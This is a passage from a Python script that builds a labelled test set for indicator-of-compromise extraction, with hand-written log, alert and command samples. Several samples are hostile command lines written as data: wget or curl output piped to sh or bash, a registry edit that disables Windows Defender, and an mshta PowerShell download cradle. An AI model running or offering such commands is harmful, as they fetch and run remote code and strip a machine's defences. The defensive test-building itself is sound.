    ("log", "type=EXECVE msg=audit(1710238462.123:4567): argc=3 a0=\"wget\" a1=\"-q\" "
     "a2=\"http://update-srv.su/k.sh\"",
     [("url", "http://update-srv.su/k.sh"), ("domain", "update-srv.su")]),
    ("log", "query[A] telemetry.microsoft-updates.info from 10.1.1.15\nreply telemetry.microsoft-updates.info is 185.39.19.22",
     [("domain", "telemetry.microsoft-updates.info"), ("ipv4", "10.1.1.15"), ("ipv4", "185.39.19.22")]),
    ("log", "Sysmon EventID 3: Image=C:\\Users\\bob\\AppData\\Local\\Temp\\rcs.exe DestinationIp=::ffff:5.188.86.172 "
     "DestinationHostname=vps-5-188-86-172.hosted-by.example.net DestinationPort=8443",
     [("ipv6", "::ffff:5.188.86.172"), ("domain", "vps-5-188-86-172.hosted-by.example.net")]),
    ("json", "{\"alert\": {\"signature\": \"ET MALWARE Cobalt Strike Beacon\", \"severity\": 1}, "
     "\"src_ip\": \"10.0.5.22\", \"dest_ip\": \"45.147.229.10\", \"http\": {\"hostname\": "
     "\"cdn-static-content.net\", \"url\": \"/jquery-3.3.1.min.js\", \"http_user_agent\": "
     "\"Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko\"}}",
     [("ipv4", "10.0.5.22"), ("ipv4", "45.147.229.10"), ("domain", "cdn-static-content.net")]),
    ("json", "{\"observable\": \"e99a18c428cb38d5f260853678922e03\", \"type\": \"md5\", "
     "\"tags\": [\"emotet\", \"epoch5\"], \"first_seen\": \"2024-01-15 08:30:00\", "
     "\"reporter\": \"abuse_ch\"}",
     [("md5", "e99a18c428cb38d5f260853678922e03")]),
    ("json", "{\"detection\": \"Suspicious PowerShell\", \"device\": {\"hostname\": \"FIN-LT-22\", "
     "\"os_version\": \"10.0.19045\", \"agent_version\": \"7.11.18110.0\"}, \"cmdline\": "
     "\"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\"}",
     []),
    ("command", "wget -qO- http://[2001:db8:4::77]/install | sh; echo done > /tmp/.ok",
     [("url", "http://[2001:db8:4::77]/install"), ("ipv6", "2001:db8:4::77")]),
    ("command", "ssh -i ~/.ssh/id_rsa root@203.0.113.200 -p 2222 'curl -fsSL https://get.evilpanel.io | bash'",
     [("ipv4", "203.0.113.200"), ("url", "https://get.evilpanel.io"), ("domain", "get.evilpanel.io")]),
    ("command", "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
     []),
    ("command", "mshta.exe vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell -c iwr hxxps://pastebin[.]com/raw/Xy12Ab\"\"\")",
     [("url", "https://pastebin.com/raw/Xy12Ab"), ("domain", "pastebin.com")]),
]


def handwritten():
    docs = []
    for kind, text, labels in HANDWRITTEN:
        docs.append({"kind": kind, "text": text,
                     "expected": [{"type": t, "value": v} for t, v in dict.fromkeys(labels)]})
    return docs


def main():
    makers = [chat] * 5 + [report] * 4 + [headers] * 2 + [log] * 4 + [alert] * 3 + [command] * 2
    docs = [R.choice(makers)().json() for _ in range(600)] + handwritten()
    with OUT.open("w", encoding="utf-8") as out:
        for doc in docs:
            out.write(json.dumps(doc, ensure_ascii=False) + "\n")
    print(f"{OUT}: {len(docs)} documents, {sum(len(d['expected']) for d in docs)} labels")


if __name__ == "__main__":
    main()
